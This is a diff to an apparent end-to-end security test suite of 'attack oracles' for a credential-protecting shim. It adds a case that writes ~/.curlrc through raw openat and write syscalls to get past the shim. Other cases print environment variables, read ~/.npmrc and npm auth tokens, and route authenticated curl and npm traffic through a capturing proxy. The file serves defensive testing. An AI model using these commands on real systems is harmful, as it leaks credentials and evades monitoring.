@@ -186,7 +186,14 @@ attack oracles npm-run-env none '
     printf "{ \"name\": \"p\", \"version\": \"1.0.0\", \"scripts\": { \"show\": \"env; cat ~/.npmrc; npm config get //127.0.0.1:$E2E_AP/:_authToken\" } }\n" >package.json
     npm run show'
 attack oracles curlrc-proxy none '
-    printf "proxy = \"$S\"\n" >~/.curlrc; curl --netrc -sS "$A/"; rm -f ~/.curlrc'
+    printf "proxy = \"$S\"\n" >~/.curlrc; curl --netrc -sS "$A/"; rm -f ~/.curlrc
+    # written past the shim (raw openat): the file is on disk, curl reads it?
+    python3 -c "
+import ctypes, os
+l = ctypes.CDLL(None); line = (\"proxy = \\\"%s\\\"\\n\" % os.environ[\"S\"]).encode()
+fd = l.syscall(257, -100, os.path.expanduser(\"~/.curlrc\").encode(), 0o1101, 0o644)
+print(\"raw write\", fd, l.syscall(1, fd, line, len(line)))"
+    curl --netrc -sS "$A/"; python3 -c "import ctypes, os; ctypes.CDLL(None).syscall(87, os.path.expanduser(\"~/.curlrc\").encode())"'
 attack oracles npmrc-project-proxy none '
     printf "proxy=$S/\nhttps-proxy=$S/\n" >.npmrc; npm whoami'
 attack oracles git-repo-config-proxy none '
